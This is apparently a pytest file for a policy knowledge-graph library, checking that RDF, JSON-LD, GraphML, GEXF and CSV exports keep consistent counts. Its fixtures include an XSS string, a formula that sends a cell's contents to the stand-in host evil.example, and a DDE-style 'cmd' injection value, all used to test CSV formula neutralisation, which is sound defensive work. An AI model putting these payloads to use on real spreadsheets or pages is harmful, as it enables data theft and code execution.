"""Exports in every format read back with the same counts, from a store whose documents share entities."""

from __future__ import annotations

import csv
import json

import networkx as nx
import pytest
import rdflib
from fixtures.graph.graph_data import extraction, with_hostile_entity
from fixtures.graph.shared_entity import TEXTS, document

from policykg.errors import PolicyKGError
from policykg.extract.model import ENTITY_TYPES, RELATION_TYPES
from policykg.graph.export import (
    DATASET_FORMATS,
    EDGE_COLUMNS,
    EXPORT_FORMATS,
    GRAPH_FORMATS,
    JSONLD_CONTEXT,
    NODE_COLUMNS,
    RDFLIB_FORMATS,
    csv_paths,
    export,
)
from policykg.graph.store import GraphStore

HOSTILE = '<img src=x onerror=alert(1)> "湘油泵" & co'


class PublicOnly:
    """The store seen only through the methods both store kinds (embedded, remote) offer."""

    def __init__(self, store: GraphStore):
        self._inner = store

    def quads(self):
        return self._inner.quads()

    def dump(self, fmt, prefixes=None):
        return self._inner.dump(fmt, prefixes=prefixes)

    def query(self, sparql, **kwargs):
        return self._inner.query(sparql, **kwargs)

    def count_triples(self):
        return self._inner.count_triples()

    def named_graphs(self):
        return self._inner.named_graphs()


@pytest.fixture(scope="module")
def store(tmp_path_factory):
    store = GraphStore.create(tmp_path_factory.mktemp("store") / "s")
    store.add_extraction(with_hostile_entity(extraction("hengyang-2017"), HOSTILE))
    store.add_extraction(extraction("suzhou-2011"))
    for doc_id in TEXTS:
        store.add_extraction(document(doc_id))
    return PublicOnly(store)


def _distinct_triples(store) -> int:
    return len({(q.subject, q.predicate, q.object) for q in store.quads()})


def _count(store, sparql: str) -> int:
    return int(store.query(sparql).values()[0][0])


def _entities(store) -> int:
    types = " ".join(f"pkg:{t}" for t in ENTITY_TYPES)
    return _count(store, f"SELECT (COUNT(DISTINCT ?e) AS ?n) WHERE {{ VALUES ?t {{ {types} }} ?e a ?t }}")


def _edges(store) -> int:
    relations = " ".join(f"pkg:{r}" for r in RELATION_TYPES)
    return _count(store, "SELECT (COUNT(*) AS ?n) WHERE { SELECT DISTINCT ?h ?p ?t WHERE "
                         f"{{ VALUES ?p {{ {relations} }} ?h ?p ?t }} }}")


@pytest.mark.parametrize("fmt", sorted(DATASET_FORMATS))
def test_dataset_exports_keep_one_named_graph_per_document(store, tmp_path, fmt):
    report = export(store, fmt, tmp_path / f"kg.{fmt}")
    dataset = rdflib.Dataset()
    dataset.parse(report.path, format=RDFLIB_FORMATS[fmt])
    quads = list(dataset.quads((None, None, None, None)))
    assert len(quads) == report.count == store.count_triples()
    assert {str(g) for *_, g in quads} == set(store.named_graphs()) and len(store.named_graphs()) == 6  # 4 documents, the entities, the counts
    assert HOSTILE in {str(o) for _, p, o, _ in quads if p == rdflib.namespace.SKOS.altLabel}


@pytest.mark.parametrize("fmt", sorted(GRAPH_FORMATS))
def test_graph_exports_hold_the_union_once(store, tmp_path, fmt):
    report = export(store, fmt, tmp_path / f"kg.{fmt}")
    graph = rdflib.Graph().parse(report.path, format=RDFLIB_FORMATS[fmt])
    assert len(graph) == report.count == _distinct_triples(store) < store.count_triples()
    assert HOSTILE in {str(o) for o in graph.objects(None, rdflib.namespace.SKOS.altLabel)}


def test_jsonld_has_a_compact_context(store, tmp_path):
    report = export(store, "jsonld", tmp_path / "kg.jsonld")
    data = json.loads(report.path.read_text(encoding="utf-8"))
    assert data["@context"] == JSONLD_CONTEXT and {"pkg", "rdfs", "nif", "prov", "skos"} <= set(JSONLD_CONTEXT)
    keys = set()

    def walk(node):
        if isinstance(node, dict):
            keys.update(node)
            for value in node.values():
                walk(value)
        elif isinstance(node, list):
            for value in node:
                walk(value)
    walk(data)
    assert {"rdfs:label", "skos:altLabel", "nif:beginIndex", "pkg:value"} <= keys
    assert not [k for k in keys if k.startswith("http")]


@pytest.mark.parametrize("fmt, read", [("graphml", nx.read_graphml), ("gexf", nx.read_gexf)])
def test_network_exports_read_back_with_string_attributes(store, tmp_path, fmt, read):
    report = export(store, fmt, tmp_path / f"kg.{fmt}")
    graph = read(report.path)
    assert graph.number_of_edges() == report.count == _edges(store)
    assert graph.number_of_nodes() == _entities(store)
    attrs = [a for _, a in graph.nodes(data=True)] + [a for *_, a in graph.edges(data=True)]
    assert all(isinstance(v, str) for a in attrs for k, v in a.items() if k not in ("id", "key"))
    shared = [a for _, a in graph.nodes(data=True) if a.get("label") == "特变电工"]
    assert len(shared) == 1 and {"doc-a", "doc-b", "hengyang-2017"} <= set(shared[0]["documents"].split("; "))
    assert {"Enterprise", "Cluster", "Place"} <= {a.get("type") for _, a in graph.nodes(data=True)}
    assert "leads" in {a.get("relation") for *_, a in graph.edges(data=True)}


@pytest.mark.parametrize("name", ["kg.csv", "kg-csv"])
def test_csv_writes_nodes_and_edges(store, tmp_path, name):
    report = export(store, "csv", tmp_path / name)
    nodes_path, edges_path = csv_paths(tmp_path / name)
    assert report.files == (nodes_path, edges_path)
    with nodes_path.open(encoding="utf-8-sig", newline="") as handle:
        nodes = list(csv.DictReader(handle))
    with edges_path.open(encoding="utf-8-sig", newline="") as handle:
        edges = list(csv.DictReader(handle))
    assert tuple(nodes[0]) == NODE_COLUMNS and tuple(edges[0]) == EDGE_COLUMNS
    assert len(nodes) == _entities(store) and len(edges) == report.count == _edges(store)
    ids = {n["id"] for n in nodes}
    assert all(e["source"] in ids and e["target"] in ids for e in edges)
    assert any(HOSTILE in n["aliases"] for n in nodes)
    leads = [e for e in edges if e["relation"] == "leads" and e["source_label"] == "特变电工"
             and e["target_label"] == "输变电装备产业集群"]
    assert leads and {"doc-a", "doc-b"} <= set(leads[0]["documents"].split("; "))


def test_every_advertised_format_exports_and_others_are_refused(store, tmp_path):
    for fmt in EXPORT_FORMATS:
        report = export(store, fmt, tmp_path / f"all.{fmt}")
        assert report.path.stat().st_size > 0 and str(report).startswith("wrote ")
    with pytest.raises(PolicyKGError, match="unknown export format"):
        export(store, "docx", tmp_path / "x.docx")
    blocker = tmp_path / "file"
    blocker.write_text("x")
    with pytest.raises(PolicyKGError, match="cannot write"):
        export(store, "ttl", blocker / "kg.ttl")


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    graph_store = GraphStore(None)
    graph_store.add_extraction(with_hostile_entity(extraction("hengyang-2017"), formula))
    export(graph_store, "csv", tmp_path / "kg.csv")
    nodes_path, edges_path = csv_paths(tmp_path / "kg.csv")
    with nodes_path.open(encoding="utf-8-sig", newline="") as handle:
        cells = [value for row in csv.DictReader(handle) for value in row.values()]
    assert "'" + formula in cells and formula not in cells
    assert not any(c.startswith(("=", "+", "@")) for c in cells if c)
    with edges_path.open(encoding="utf-8-sig", newline="") as handle:
        sources = {row["source_label"] for row in csv.DictReader(handle)}
    assert "'" + formula in sources


@pytest.mark.parametrize("value, safe", [
    ("=1+1", "'=1+1"), ("+86 10", "'+86 10"), ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("-3.5", "-3.5"), ("12", "12"), ("衡阳", "衡阳"), (7, 7),
])
def test_spreadsheet_safe(value, safe):
    from policykg.graph.export import spreadsheet_safe

    assert spreadsheet_safe(value) == safe
